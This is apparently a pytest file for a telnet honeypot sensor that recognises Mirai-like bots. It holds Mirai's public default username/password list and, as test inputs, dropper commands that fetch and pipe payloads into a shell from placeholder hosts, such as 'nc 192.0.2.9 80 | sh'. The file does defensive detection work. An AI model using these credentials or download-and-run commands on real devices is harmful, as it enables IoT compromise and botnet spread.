"""Default pairs of Mirai's public list, its signs, and what commands fetch."""

from __future__ import annotations

import re

import pytest

from sensor.protocols.telnet.bots import DEFAULT_PAIRS, MIRAI_WINDOW, MiraiSigns, transfer

PAIRS = re.split(r"\s+", """\
root/xc3511 root/vizxv root/admin admin/admin root/888888 root/xmhdipc root/default
root/juantech root/123456 root/54321 support/support root/ admin/password root/root root/12345
user/user admin/ root/pass admin/admin1234 root/1111 admin/smcadmin admin/1111 root/666666
root/password root/1234 root/klv123 Administrator/admin service/service supervisor/supervisor
guest/guest guest/12345 admin1/password administrator/1234 666666/666666 888888/888888 ubnt/ubnt
root/klv1234 root/Zte521 root/hi3518 root/jvbzd root/anko root/zlxx. root/7ujMko0vizxv
root/7ujMko0admin root/system root/ikwb root/dreambox root/user root/realtek root/00000000
admin/1111111 admin/1234 admin/12345 admin/54321 admin/123456 admin/7ujMko0admin admin/pass
admin/meinsm tech/tech mother/fucker""")


def test_the_list_is_the_public_one() -> None:
    assert {tuple(pair.split("/")) for pair in PAIRS} == DEFAULT_PAIRS


@pytest.mark.parametrize("pair", [("root", "Admin"), ("Root", "admin"), ("", "admin"), ("", ""),
                                  ("root", "vizxv "), ("guest", "")])  # fmt: skip
def test_they_are_compared_exactly(pair: tuple[str, str]) -> None:
    assert pair not in DEFAULT_PAIRS


FIVE = ["enable", "system", "shell", "sh"]
TOKEN, DROPPER = "/bin/busybox ECCHI", "wget http://192.0.2.9/x -O - > /tmp/x"


@pytest.mark.parametrize(("lines", "signs", "is_bot"), [
    ([*FIVE, TOKEN], ["pair"], True),
    ([*FIVE, TOKEN, DROPPER], [], True),
    ([TOKEN], ["pair", "window"], True),
    ([TOKEN, DROPPER], ["window"], True),
    ([*FIVE, TOKEN], [], False),  # one sign beside the token
    ([TOKEN], ["pair"], False),
    ([*FIVE, DROPPER], ["pair", "window"], False),  # no token
    (["/bin/busybox ls", *FIVE], ["pair"], False),
    (["sh", "shell", "system", "enable", TOKEN], ["pair"], False),  # out of order
    ([], ["pair", "window"], False),
])
def test_mirai(lines: list[str], signs: list[str], is_bot: bool) -> None:
    found = MiraiSigns()
    for name in signs:
        found.sign(name)
    for line in lines:
        found.line(line)
    assert found.is_mirai_like is is_bot


@pytest.mark.parametrize("line", [
    "wget http://192.0.2.9/m", "curl -O http://192.0.2.9/m", "tftp -g -l m -r m 192.0.2.9",
    "tftp 192.0.2.9 -c get m", "ftpget -v 192.0.2.9 m m", r'echo -ne "\x7f\x45\x4c\x46" > m',
    r"echo -e '\x7fELF' >> m", r"printf '\x7f\x45' > m", "cat /proc/mounts", "chmod 777 m",
    "nc 192.0.2.9 80 | sh",
])
def test_droppers(line: str) -> None:
    found = MiraiSigns()
    found.line(TOKEN)
    found.sign("pair")
    assert not found.is_mirai_like
    found.line(line)
    assert found.is_mirai_like


@pytest.mark.parametrize("line", ["echo hello", "chmod 755 m", "cat /proc/cpu", "ls -l", "man wget",
                                  "cat http.txt", "echo -n done"])  # fmt: skip
def test_ordinary_lines_are_no_droppers(line: str) -> None:
    found = MiraiSigns()
    for text in (TOKEN, line):
        found.line(text)
    found.sign("pair")
    assert not found.is_mirai_like


@pytest.mark.parametrize(("command", "found"), [
    ("wget http://192.0.2.9/a/m.sh -O m",
     {"method": "wget", "url": "http://192.0.2.9/a/m.sh", "host": "192.0.2.9"}),
    ("cd /tmp;curl -O http://h.example:8080/m|sh",
     {"method": "curl", "url": "http://h.example:8080/m", "host": "h.example"}),
    ("/bin/busybox wget http://[2001:db8::9]/m",
     {"method": "wget", "url": "http://[2001:db8::9]/m", "host": "2001:db8::9"}),
    ("tftp -g -l m -r m 192.0.2.9", {"method": "tftp", "host": "192.0.2.9"}),
    ("tftp 192.0.2.9 -c get m", {"method": "tftp", "host": "192.0.2.9"}),
    ("ftpget -v -u a -p b 192.0.2.9 m m", {"method": "ftpget", "host": "192.0.2.9"}),
    ("copy tftp://192.0.2.9/c run", {"method": "url", "url": "tftp://192.0.2.9/c",
                                     "host": "192.0.2.9"}),
    ("ls -l", {}), ("man wget", {}), ("echo 192.0.2.9", {}), ("", {}),
])  # fmt: skip
def test_transfers(command: str, found: dict[str, str]) -> None:
    assert transfer(command) == found


def test_the_window_of_mirai() -> None:
    assert MIRAI_WINDOW.hex() == "fffb1ffffa1f00500018fff0"
